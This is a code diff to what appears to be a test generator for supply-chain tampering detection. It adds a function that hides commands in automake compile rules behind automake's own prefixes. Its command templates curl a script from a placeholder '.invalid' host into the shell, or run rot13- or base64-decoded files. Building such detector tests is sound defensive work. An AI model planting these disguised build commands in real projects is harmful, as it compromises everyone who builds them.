@@ -16,7 +16,7 @@ export const PYTHON_TAMPER_KINDS = ['py-line', 'setup-exec'] as const
 /** what an npm package can take: its manifest, and the code it ships */
 export const NPM_TAMPER_KINDS = ['npm-install-script', 'npm-code-exec', 'npm-code-exfil', 'npm-dependency'] as const
 /** injections outside the rotation, asked for by name (`--tamper-kind`): variants the detectors were not written against */
-export const EXTRA_TAMPER_KINDS = ['makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe', 'config-header'] as const
+export const EXTRA_TAMPER_KINDS = ['makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe', 'recipe-prefixed', 'config-header'] as const
 export type TamperKind = (typeof TAMPER_KINDS)[number] | (typeof PYTHON_TAMPER_KINDS)[number] | (typeof NPM_TAMPER_KINDS)[number] | (typeof EXTRA_TAMPER_KINDS)[number]
 
 export interface Tampering {
@@ -357,6 +357,30 @@ function docInRecipe(root: string, files: readonly string[], d: Draw): Tampering
 }
 
 /**
+ * A command added to a compile rule automake wrote, dressed as automake's own lines are: on a line of
+ * its own under the rule's conditional prefix with a silent-rules prefix glued to its program
+ * (`@am__fastdepCC_TRUE@\t$(AM_V_at)sh -c …`), or after the compilation on the rule's own line. It
+ * downloads and runs a script, or runs a shipped documentation file or test data decoded.
+ */
+function recipePrefixed(root: string, files: readonly string[], d: Draw): Tampering {
+  const doc = d.pick(files.filter((f) => SHIPPED_DOC.test(f))) ?? 'README'
+  const { target, lines, i } = drawAutomakeLine(root, files, d, COMPILE_RECIPE, 'no automake Makefile.in with a compile rule')
+  const line = lines[i] ?? ''
+  const swap = d.pick(SWAPS) ?? ['a-z', 'n-za-m']
+  const command = d.pick([
+    `curl -fsS http://${d.pick(WORDS)}.invalid/${d.int(1e4)} | $(SHELL)`,
+    `sh -c "$$(tr '${swap[0]}' '${swap[1]}' < $(top_srcdir)/${doc})"`,
+    `$(SHELL) -c "$$(base64 -d $(top_srcdir)/tests/files/${d.pick(WORDS)}.b64)"`,
+  ])
+  const silent = d.pick(['$(AM_V_at)', '$(AM_V_GEN)', '$(AM_V_CC)'])
+  const ownLine = d.int(2) === 0 && !line.trimEnd().endsWith('\\')
+  if (ownLine) lines.splice(i + 1, 0, `${/^(?:@\w+@)*/.exec(line)?.[0] ?? ''}\t${silent}${command}`)
+  else lines[i] = `${line.replace(/\s*$/, '')} && ${command}`
+  writeFileSync(join(root, target), lines.join('\n'))
+  return { kind: 'recipe-prefixed', path: target, touched: [target], description: `line ${i + 1} of ${target}, a compile rule automake wrote, also runs \`${command}\`` }
+}
+
+/**
  * A line added to the header template autoheader wrote, which every C file includes once
  * configure has made it: a header from test data, a function renamed to another, code.
  */
@@ -490,6 +514,7 @@ const INJECT: Record<TamperKind, (root: string, files: readonly string[], d: Dra
   'makefile-substitution': makefileSubstitution,
   'makefile-value-replaced': makefileValueReplaced,
   'doc-in-recipe': docInRecipe,
+  'recipe-prefixed': recipePrefixed,
   'config-header': configHeader,
   'doc-as-code': docAsCode,
   'py-line': pyLine,
@@ -518,7 +543,7 @@ export function applicableKinds(files: readonly string[]): TamperKind[] {
   if (has(/^configure\.(ac|in)$/)) kinds.push('m4-payload')
   if (has(/\.c$/)) kinds.push('c-line')
   if (has(/^configure$/)) kinds.push('configure-script', 'doc-as-code')
-  if (has(/(^|\/)Makefile\.in$/)) kinds.push('makefile-rule', 'makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe')
+  if (has(/(^|\/)Makefile\.in$/)) kinds.push('makefile-rule', 'makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe', 'recipe-prefixed')
   if (has(/\.h\.in$/)) kinds.push('config-header')
   return kinds
 }
